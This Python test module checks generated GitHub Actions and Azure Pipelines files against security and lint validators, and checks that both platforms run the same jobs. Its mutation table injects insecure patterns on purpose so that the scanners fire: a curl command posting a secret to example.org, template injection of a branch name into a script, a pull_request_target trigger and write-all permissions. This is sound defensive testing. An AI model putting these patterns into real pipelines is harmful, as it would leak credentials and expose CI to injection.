"""Pipelines that we generate, and our own, under every validator; each validator fires; parity."""

from __future__ import annotations

import re
import shlex
import subprocess
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import typer.core
import typer.main
from ruamel.yaml import YAML

from gitops import config, pipelines
from gitops.cli.app import make
from tests import pipeline_validators as validators
from tests.pipeline_validators import BIN, PROJECT, placed

OWN = sorted((PROJECT / ".github" / "workflows").glob("*.yml"))
HEAD = "version: 1\nproject: flights\nci: [github, azure]\n"
LAYOUTS = {
    "single": "models:\n  late: {task: binary%s}\n",
    "several": "models:\n  late: {task: binary, path: a%s}\n  fares: {task: regression, path: b}\n",
}
WORKSPACES = (
    "targets: {azureml: {workspaces: {staging: {name: flights-s, resource_group: flights-s},"
    " production: {name: flights-p, resource_group: flights-p}}}}\n"
)
TARGETS = {
    "local": ("", ""),
    "own": (
        "",
        "runners:\n  default: {labels: [self-hosted, linux], pool: lab}\n"
        "  reproduce: {labels: [self-hosted, gpu], pool: lab, demands: [gpu, cuda -equals 12]}\n",
    ),
    "azureml": (", deploy: {target: azureml}", WORKSPACES),
}
TABLE = "data: data/flights.parquet"
SOURCES = {
    "sql": "{kind: sql, url_env: FLIGHTS_DB, table: flights, schedule: 17 3 * * *, login: azure}",
    "blob": "{kind: files, path: azure://landing/flights, event: flights-landed}",
    "s3": "{kind: files, path: s3://landing/flights, schedule: 7 1 * * MON}",
}
STORAGES = {
    "folder": "",
    "s3": "storage: {remote: s3://data/flights}\n",
    "endpoint": "storage: {remote: s3://data, endpoint: 'https://minio.example.org'}\n",
    "azure": "storage: {remote: azure://data/flights}\n",
    "account": "storage: {remote: azure://data/flights, account: flightsml}\n",
}
PROVISIONED = (("azure", "azure"), ("aws", "s3"))
NIGHTLY = """\
version: 1
about: Look at everything once a night.
triggers:
  schedule: ["17 3 * * MON-FRI"]
  events: [retrain]
  manual: {inputs: {deep: {type: boolean, about: Everything, default: false}}}
concurrency: {by: workflow, cancel: false}
jobs:
  look:
    timeout: 10
    permissions: [{scope: contents, level: read, reason: reads the source}]
    matrix: {python: ["3.11", "3.12"], os: [linux]}
    when: [{branch: main}]
    steps:
      - {name: Check out, use: checkout}
      - {name: Look, run: make look, env: {V: {matrix: python}, N: 2}}
      - {name: Look deeper, run: "make deeper\\nmake deepest\\n", when: [{input: deep}]}
  tell:
    needs: [look]
    timeout: 10
    permissions: []
    environment: dev
    when: [{finished: look}]
    steps:
      - {name: Tell, run: make tell, env: {KEY: {secret: KEY}, PLACE: {variable: PLACE}}}
      - {name: Say that it failed, run: make sorry, when: [failed]}
"""
Texts = dict[str, str]


def combinations() -> Iterator[tuple[str, str]]:
    """Name and gitops.yaml of every layout with every target and every storage, in one cloud."""
    for layout, target, storage in product(LAYOUTS, TARGETS, STORAGES):
        if (target, storage) == ("azureml", "s3"):  # a task of Azure Pipelines logs in to one
            continue
        of_model, runners = TARGETS[target]
        models = LAYOUTS[layout] % of_model
        yield f"{layout}-{target}-{storage}", f"{HEAD}{STORAGES[storage]}{runners}{models}"
    for target, (provider, storage) in product(("local", "own"), PROVISIONED):
        more = f"infrastructure: {{provider: {provider}, id: k7q2m9xd}}\n{TARGETS[target][1]}"
        models = LAYOUTS["single"] % ""
        yield f"provisioned-{target}-{storage}", f"{HEAD}{STORAGES[storage]}{more}{models}"
    for source, storage in (("sql", "azure"), ("blob", "azure"), ("s3", "s3")):
        models = LAYOUTS["several"] % f", {TABLE}, source: {SOURCES[source]}"
        yield f"sourced-local-{source}-{storage}", f"{HEAD}{STORAGES[storage]}{models}"


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Texts]:
    """The files of every combination, by its name and their path."""
    root = tmp_path_factory.mktemp("repository")
    (root / ".gitops" / "workflows").mkdir(parents=True)
    (root / ".gitops" / "workflows" / "nightly.yaml").write_text(NIGHTLY)
    found = {}
    for name, text in combinations():
        (root / "gitops.yaml").write_text(text)
        made = pipelines.render(config.load(root), root)
        found[name] = {path: data.decode() for path, data in made}
    return found


@pytest.fixture(scope="module")
def every(generated: dict[str, Texts], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Each text once, of all combinations, and our own workflows."""
    texts = {text: path for made in generated.values() for path, text in made.items()}
    texts |= {file.read_text(): f".github/workflows/{file.name}" for file in OWN}
    top = tmp_path_factory.mktemp("every")
    placed(((path, text) for text, path in texts.items()), top)
    return top


def test_every_combination_is_there(generated: dict[str, Texts]) -> None:
    assert len(generated) == 35
    for name, made in generated.items():
        assert len(made) == (14 if name.startswith(("provisioned", "sourced")) else 12), name
        deploys = "deploy-production:" in made[".github/workflows/deploy.yml"]
        assert deploys == ("local" not in name), name
        refused = "no hosted runner reaches" in made[".github/workflows/build.yml"]
        assert refused == ("folder" in name and "own" not in name), name


SLOW = pytest.mark.extended("it takes half a minute; the others look at the same files")


@pytest.mark.parametrize(
    "validator",
    [pytest.param(one, marks=SLOW if one == "checkov" else ()) for one in validators.ALL],
)
def test_no_finding(every: Path, validator: str) -> None:
    found = validators.ALL[validator](every)
    if validator == "checkov":
        # What is promoted, or looked at, is said by hand; nothing of it goes into a build.
        named = ("promote.yml", "rollback.yml", "nightly.yml", "ingest.yml")
        found = [one for one in found if not ("CKV_GHA_7" in one and any(n in one for n in named))]
    assert found == []


# ---------------------------------------------------------------- each validator fires

CONCURRENCY = """\
concurrency:
  group: pull-request-${{ github.ref }}
  cancel-in-progress: true
"""
CURL = "curl --data ${{ secrets.KEY }} https://example.org"
IMAGE = "    container: {image: 'ubuntu:latest'}\n"
CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1"
PULL, DEPLOY = ".github/workflows/pull-request.yml", ".github/workflows/deploy.yml"
BUILD = ".github/workflows/build.yml"
A_PULL, A_DEPLOY = ".azure-pipelines/pull-request.yml", ".azure-pipelines/deploy.yml"
A_INFRA = ".azure-pipelines/infrastructure.yml"
A_BUILD, A_PROMOTE = ".azure-pipelines/build.yml", ".azure-pipelines/promote.yml"
# Combination, file, what is replaced (once) by what, and what is found.
MUTATIONS: dict[str, list[tuple[str, str, str, str]]] = {
    "zizmor": [
        (PULL, "permissions: {}\n", "permissions: write-all\n", "excessive-permissions"),
        (PULL, f"{CHECKOUT}  # v7.0.1", "actions/checkout@v7", "unpinned-uses"),
        (PULL, "          persist-credentials: false\n", "", "artipacked"),
        (PULL, "contents: read  # reads the source", "contents: write", "undocumented-permissions"),
        (PULL, "  pull_request:\n", "  pull_request_target:\n", "dangerous-triggers"),
        (PULL, CONCURRENCY, "", "concurrency-limits"),
        (PULL, "gitops verify", "gitops verify ${{ github.head_ref }}", "template-injection"),
        (DEPLOY, "runs-on: ubuntu-24.04", "runs-on: [self-hosted, linux]", "self-hosted-runner"),
    ],
    "schema": [
        (PULL, "    runs-on: ubuntu-24.04\n", "", "is not valid under"),
        (PULL, "timeout-minutes: 15", "timeout-minutes: soon", "timeout-minutes"),
        (PULL, "  merge_group:\n", "  merge_groups:\n", "merge_groups"),
    ],
    "yamllint": [
        (PULL, "name: pull-request\n", "name:  pull-request\n", "(colons)"),
        (PULL, "gitops verify\n", "gitops verify \n", "(trailing-spaces)"),
        (A_PULL, "jobs:\n", "pr: none\njobs:\n", "(key-duplicates)"),
        (A_PULL, "gitops sync", f"gitops {'x' * 200}", "(line-length)"),
    ],
    "shellcheck": [
        (PULL, 'uv venv "$RUNNER_TEMP/gitops"', "uv venv $RUNNER_TEMP/gitops", "SC2086"),
        (A_PULL, 'uv venv "$AGENT_TEMP', 'uv venv $AGENT_TEMP', "SC"),
        (A_BUILD, '--base "$BEFORE"', "--base $BEFORE", "SC2086"),
        (PULL, 'test "$result"', 'if test "$result"', "SC1"),
    ],
    "services": [
        (PULL, "needs.gate.result", "needs.gates.result", "might be invalid: gates"),
        (PULL, "needs: [gate]", "needs: [gates]", "unknown job 'gates'"),
        (PULL, "github.event.pull_request.head", "github.evnt.pull_request.head", "invalid: evnt"),
        (BUILD, "attestations: write", "attestation: write", "Unexpected value 'attestation'"),
        (A_DEPLOY, "lockBehavior: seq", "lockBehaviour: seq", "property lockBehaviour"),
        (A_DEPLOY, "runOnce:", "runTwice:", "Unexpected property runTwice"),
        (A_DEPLOY, "timeoutInMinutes: 60", "timeoutInMinutes: [60]", 'Expected "string"'),
        (A_BUILD, "AzureCLI@2", "AzureCLY@2", "Value is not accepted"),
        (A_BUILD, "scriptType: bash", "scriptKind: bash", "Unexpected property scriptKind"),
        (A_PULL, "artifact: gate", "artefact: gate", "Unexpected property artefact"),
        (A_INFRA, "awsCredentials:", "awsCredential:", "Unexpected property awsCredential"),
    ],
    "checkov": [
        (PULL, "permissions: {}\n", "permissions: write-all\n", "CKV2_GHA_1"),
        (PULL, "run: gitops verify", f"run: {CURL}", "CKV_GHA_3"),
        (A_BUILD, "    timeoutIn", f"{IMAGE}    timeoutIn", "CKV_AZUREPIPELINES_1"),
    ],
    "house": [
        (PULL, "  # v7.0.1", "", "exact tag"),
        (PULL, "  # v7.0.1", "  # v7", "exact tag"),
        (PULL, " --require-hashes", "", "no lock"),
        (PULL, "cancel-in-progress: true", "cancel-in-progress: false", "doesn't cancel"),
        (DEPLOY, "cancel-in-progress: false", "cancel-in-progress: true", "is cancelled"),
        (PULL, "    timeout-minutes: 15\n", "", "job files has no timeout"),
        (PULL, "      - name: Set up uv\n        uses:", "      - uses:", "without name"),
        (PULL, "    permissions: {}\n", "", "job required says nothing"),
        (PULL, "permissions: {}\n", "", "rights for all jobs"),
        (PULL, "contents: read", "id-token: write", "neither logs in nor signs"),
        (PULL, "if-no-files-found: error", "if-no-files-found: warn", "may not be there"),
        (PULL, "actions/cache/restore@", "actions/cache@", "saves a cache"),
        (PULL, "gitops verify", "gitops verify ${{ github.ref }}", "expression in a script"),
        (DEPLOY, "runs-on: ubuntu-24.04", "runs-on: [self-hosted]", "without a reason"),
        (A_PULL, "gitops sync", "gitops $(Build.Reason) sync", "expression in a script"),
        (A_PULL, "gitops sync", "gitops ${{ parameters.x }} sync", "no parameter x"),
        (A_PULL, " --require-hashes", "", "no lock"),
        (A_PULL, "persistCredentials: false", "persistCredentials: true", "keeps credentials"),
        (A_PULL, "    timeoutInMinutes: 15\n", "", "job files has no timeout"),
        (A_PULL, "dependsOn: [gate]", "dependsOn: [gates]", "needs gates"),
        (A_PULL, "dependencies.gate.result", "dependencies.tests.result", "asks tests"),
        (A_PULL, "trigger: none\n", "", "without trigger"),
        (A_PULL, "        displayName: Install gitops\n", "", "without name"),
        (A_PULL, "          set -euo pipefail\n", "", "goes on after"),
        (A_PROMOTE, "  - name: source\n", "  - name: sauce\n", "no parameter source"),
    ],
}  # fmt: skip


@pytest.mark.parametrize("validator", MUTATIONS)
def test_each_validator_fires(generated: dict[str, Texts], tmp_path: Path, validator: str) -> None:
    texts = []
    for path, before, after, _ in MUTATIONS[validator]:
        names = ("single-azureml-azure", "several-azureml-azure", "provisioned-local-s3")
        found = [generated[name].get(path, "") for name in names]
        text = next((one for one in found if before in one), "")
        assert text, (path, before)
        texts.append((path, text.replace(before, after, 1)))
    files = placed(texts, tmp_path)
    found = validators.ALL[validator](tmp_path)
    for file, (path, before, _, finding) in zip(files, MUTATIONS[validator], strict=True):
        mine = [one for one in found if str(file) in one]
        assert any(finding in one for one in mine), (path, before, mine)


# ---------------------------------------------------------------- the same on both platforms

# How each platform says a condition.
SAID = {
    "!cancelled()": "ended",
    "succeededOrFailed()": "ended",
    "not(canceled())": "ended",
    "failure()": "failed",
    "failed()": "failed",
    "github.event_name == 'pull_request'": "pull request",
    "eq(variables['Build.Reason'], 'PullRequest')": "pull request",
    "github.event.pull_request.head.repo.full_name == github.repository": "no fork",
    "github.event_name != 'pull_request' || github.event.pull_request.head.repo.full_name"
    " == github.repository": "no fork",
    "ne(variables['System.PullRequest.IsFork'], 'True')": "no fork",
}
PATTERNS = [
    (r"github\.ref == '(.*)'", r"ref \1"),
    (r"eq\(variables\['Build\.SourceBranch'\], '(.*)'\)", r"ref \1"),
    (r"needs\.(\w+)\.outputs\.(\w+) != '\[\]'", r"found \1"),
    (r"ne\(dependencies\.(\w+)\.outputs\['\w+\.\w+'\], '\{\}'\)", r"found \1"),
    (r"needs\.(\w+)\.result != 'skipped'", r"ran \1"),
    (r"in\(dependencies\.(\w+)\.result, .*\)", r"ran \1"),
    (r"ne\(dependencies\.(\w+)\.result, 'Skipped'\)", r"ran \1"),
    (r"inputs\.(\w+)", r"\1 is true"),
    (r"eq\('\$\{\{ parameters\.(\w+) \}\}', 'True'\)", r"\1 is true"),
    (r"!inputs\.(\w+)", r"\1 is false"),
    (r"eq\('\$\{\{ parameters\.(\w+) \}\}', 'False'\)", r"\1 is false"),
]


def conditions(text: str | None) -> set[str]:
    """What must hold, in words, whichever platform says it."""
    if not text:
        return set()
    if text.startswith("${{"):
        parts = [one.strip() for one in text[3:-2].split("&&")]
    else:
        inside = text[4:-1] if text.startswith("and(") else text
        parts = [one.strip() for one in re.split(r",\s*(?![^()]*\))", inside)]
    found = {word(part.strip("()") if part.startswith("(") else part) for part in parts}
    return found - {""}


def word(part: str) -> str:
    if part == "succeeded()":
        return ""
    if part in SAID:
        return SAID[part]
    for pattern, answer in PATTERNS:
        if match := re.fullmatch(pattern, part):
            return match.expand(answer)
    raise AssertionError(f"no word for {part!r}")


VALUES = [
    (r"\$\{\{ inputs\.(\w+) \}\}", r"input \1"),
    (r"\$\{\{ parameters\.(\w+) \}\}", r"input \1"),
    (r"\$\{\{ (?:vars|secrets)\.(\w+) \}\}", r"variable \1"),
    (r"\$\{\{ join\(matrix\.group\.models, ' '\) \}\}", "variable models"),
    (r"\$\{\{ matrix\.(\w+) \}\}", r"variable \1"),
    (r"\$\((\w+)\)", r"variable \1"),
    (r"\$\{\{ github\.event\.before \}\}|HEAD\^", "before"),
    (r"\$\{\{ github\.token \}\}|\$\(System\.AccessToken\)", "the run's token"),
]


def value(text: object) -> str:
    for pattern, answer in VALUES:
        if match := re.fullmatch(pattern, str(text)):
            return match.expand(answer)
    assert not re.search(r"\$[({\[]", str(text)), text
    return str(text)


def env(step: dict[str, Any]) -> dict[str, str]:
    named = {"GITHUB_TOKEN": "TOKEN", "SYSTEM_ACCESSTOKEN": "TOKEN"}
    # Whom a task has logged in as, Azure tells the command itself; a region is GitHub's action's.
    told = ("AZURE_CLIENT_ID", "AZURE_TENANT_ID", "AZURE_SUBSCRIPTION_ID", "AWS_REGION")
    given = {name: one for name, one in step.get("env", {}).items() if name not in told}
    return {named.get(name, name): value(one) for name, one in given.items()}


def command(text: str) -> str:
    """A script without what the platform's own shell needs; what sets the machine up, by a word."""
    if "uv pip install" in text:
        return "install gitops"
    if "terraform.zip" in text:
        return "install terraform"
    if extension := re.search(r"az extension add .*", text):
        return extension[0]
    if "pip install" in text:
        return "set up uv"
    if text.startswith('echo "'):
        return f"refuse: {re.sub(r'^.*?(::error::|type=error])', '', text)}"
    return text.removeprefix("set -euo pipefail\n").strip()


ACTIONS = {
    "actions/checkout": "checkout",
    "astral-sh/setup-uv": "set up uv",
    "actions/cache": "cache",
    "actions/upload-artifact": "upload",
    "actions/download-artifact": "download",
    "Cache": "cache",
    "PublishPipelineArtifact": "upload",
    "DownloadPipelineArtifact": "download",
}
# A login is a step of its own on GitHub, and a task around the command on Azure; GitHub shows no
# JUnit files, and only GitHub signs.
ONLY: tuple[str, ...] = ("azure/login", "aws-actions/configure-aws-credentials", "actions/attest")
ONLY = (*ONLY, "PublishTestResults")
Step = tuple[str, str, frozenset[str], tuple[tuple[str, str], ...]]


def github_step(step: dict[str, Any]) -> Step | None:
    if "run" in step:
        did = command(step["run"])
    else:
        action = re.sub(r"(/restore)?@.*", "", step["uses"])
        if action in ONLY:
            return None
        did = ACTIONS[action]
    return step["name"], did, frozenset(conditions(step.get("if"))), tuple(env(step).items())


def azure_step(step: dict[str, Any]) -> Step | None:
    if "checkout" in step:
        did = "checkout"
    elif script := step.get("bash") or step.get("inputs", {}).get("inlineScript"):
        did = command(script)
    else:
        task = step["task"].split("@")[0]
        if task in ONLY:
            return None
        did = ACTIONS[task]
    name = step["displayName"]
    return name, did, frozenset(conditions(step.get("condition"))), tuple(env(step).items())


def github_jobs(text: str) -> dict[str, Any]:
    found = {}
    for name, job in YAML(typ="safe").load(text)["jobs"].items():
        if name != "required":
            listed = [github_step(step) for step in job["steps"]]
            found[name] = {
                "needs": job.get("needs", []),
                "when": conditions(job.get("if")),
                "environment": job.get("environment"),
                "timeout": job["timeout-minutes"],
                "matrix": "strategy" in job,
                "steps": [step for step in listed if step],
            }
    return found


def azure_jobs(text: str) -> dict[str, Any]:
    found = {}
    for job in YAML(typ="safe").load(text)["jobs"]:
        name = job["displayName"]
        if name != "required":
            assert (job.get("job") or job["deployment"]) == name.replace("-", "_")
            listed = [azure_step(step) for step in validators.steps(job)]
            found[name] = {
                "needs": [one.replace("_", "-") for one in job.get("dependsOn", [])],
                "when": conditions(job.get("condition")),
                "environment": job.get("environment"),
                "timeout": job["timeoutInMinutes"],
                "matrix": "matrix" in job.get("strategy", {}),
                "steps": [step for step in listed if step],
            }
    return found


def test_both_platforms_do_the_same(generated: dict[str, Texts]) -> None:
    """Read back from the files: jobs and their order, commands, conditions, environments."""
    seen = set()
    for name, made in generated.items():
        for path, text in made.items():
            if not path.startswith(".github"):
                continue
            other = made[f".azure-pipelines/{Path(path).name}"]
            if (text, other) in seen:
                continue
            seen.add((text, other))
            ours, theirs = github_jobs(text), azure_jobs(other)
            ours.pop("attest", None)  # Azure signs nothing
            ours.pop("attest", None)  # Azure signs nothing
            assert list(ours) == list(theirs), (name, path)
            assert ours == theirs, (name, path)
    assert len(seen) > 30


def test_the_one_check_needs_the_same_jobs(generated: dict[str, Texts]) -> None:
    for made in generated.values():
        ours = YAML(typ="safe").load(made[PULL])["jobs"]["required"]
        theirs = YAML(typ="safe").load(made[A_PULL])["jobs"][-1]
        assert ours["if"] == "${{ always() }}"
        assert theirs["condition"] == "always()"
        assert ours["needs"] == theirs["dependsOn"]
        results = re.findall(r"needs\.(\w+)\.result", ours["steps"][0]["env"]["RESULTS"])
        assert results == ours["needs"]
        assert set(
            re.findall(r"dependencies\.(\w+)\.result", theirs["variables"]["results"])
        ) == set(ours["needs"])


@pytest.mark.parametrize(
    ("results", "passes"),
    [
        ("success success", True),
        ("success failure", False),
        ("skipped success", False),
        ("cancelled", False),
    ],
)
def test_the_one_check_passes_only_if_all_have(
    generated: dict[str, Texts], results: str, passes: bool
) -> None:
    """By the scripts themselves, in a shell as each platform starts it."""
    ours = YAML(typ="safe").load(generated["single-local-s3"][PULL])["jobs"]["required"]
    theirs = YAML(typ="safe").load(generated["single-local-s3"][A_PULL])["jobs"][-1]
    words = {"success": "Succeeded", "failure": "Failed", "skipped": "Skipped"}
    azure = " ".join(words.get(one, "Canceled") for one in results.split())
    for shell, script, text in (
        (["bash", "-e"], ours["steps"][0]["run"], results),
        (["bash"], theirs["steps"][1]["bash"], azure),
    ):
        done = subprocess.run([*shell, "-c", script], env={"RESULTS": text})
        assert (done.returncode == 0) == passes


def test_every_command_is_one_of_ours(generated: dict[str, Texts]) -> None:
    """Each is parsed by the command itself, which runs nothing: names, options, how many words."""
    known = typer.main.get_command(make())
    assert isinstance(known, typer.core.TyperGroup)
    lines = {
        line
        for made in generated.values()
        for path, text in made.items()
        for script in validators.scripts(YAML(typ="safe").load(text))
        for line in script.splitlines()
        if line.startswith("gitops ")
    }
    assert len(lines) > 10
    for line in lines:
        _, name, *words = shlex.split(line)
        assert name in known.commands, line
        with typer.Context(known) as context:
            known.commands[name].make_context(name, words, parent=context)


def test_what_lets_in_to_a_database_is_behind_the_first_environment(
    generated: dict[str, Texts],
) -> None:
    """By its name, in the one step that needs it; with the triggers that the source declares."""
    made = generated["sourced-local-sql-azure"]
    ours = YAML(typ="safe").load(made[".github/workflows/ingest.yml"])
    assert [one["cron"] for one in ours["on"]["schedule"]] == ["17 3 * * *"]
    assert "repository_dispatch" not in ours["on"]
    (job,) = ours["jobs"].values()
    assert job["environment"] == "dev"
    assert job["permissions"] == {
        "contents": "write",
        "pull-requests": "write",
        "id-token": "write",
    }
    secret = "${{ secrets.FLIGHTS_DB }}"
    assert [one["env"]["FLIGHTS_DB"] for one in job["steps"] if "env" in one] == [secret]
    theirs = made[".azure-pipelines/ingest.yml"]
    assert "FLIGHTS_DB: $(FLIGHTS_DB)" in theirs
    assert "deployment: ingest_dev" in theirs
    landed = generated["sourced-local-blob-azure"]
    ours = YAML(typ="safe").load(landed[".github/workflows/ingest.yml"])
    assert ours["on"]["repository_dispatch"] == {"types": ["flights-landed"]}
    assert "schedule" not in ours["on"]
    assert "webhook: flights_landed" in landed[".azure-pipelines/ingest.yml"]
    others = (one for name, made in generated.items() for one in made if "sourced" not in name)
    assert not [path for path in others if "ingest" in path]


# ---------------------------------------------------------------- our own


def test_dependabot_waits_before_it_takes_a_release(tmp_path: Path) -> None:
    good = PROJECT / ".github" / "dependabot.yml"
    audit = (BIN / "zizmor", "--offline", "--no-progress", "--quiet", "--persona=auditor")
    assert validators.said(*audit, good) == []
    assert (
        validators.said(BIN / "check-jsonschema", "--builtin-schema", "vendor.dependabot", good)
        == []
    )
    hasty = tmp_path / "dependabot.yml"
    hasty.write_text(re.sub(r".*cooldown.*\n", "", good.read_text()))
    assert "dependabot-cooldown" in "\n".join(validators.said(*audit, hasty))


def test_pre_commit_runs_only_what_the_lock_holds() -> None:
    file = PROJECT / ".pre-commit-config.yaml"
    assert validators.said(BIN / "pre-commit", "validate-config", file) == []
    assert {repo["repo"] for repo in YAML(typ="safe").load(file)["repos"]} == {"local"}


def test_one_commit_for_one_action_everywhere(generated: dict[str, Texts]) -> None:
    texts = [file.read_text() for file in OWN]
    texts += [text for made in generated.values() for text in made.values()]
    pins = {
        pin
        for text in texts
        for pin in re.findall(r"uses: ([^@/]+/[^@/]+)\S*@(\S+)  # (\S+)", text)
    }
    assert len(pins) == len({action for action, _, _ in pins}) == 8 + 1
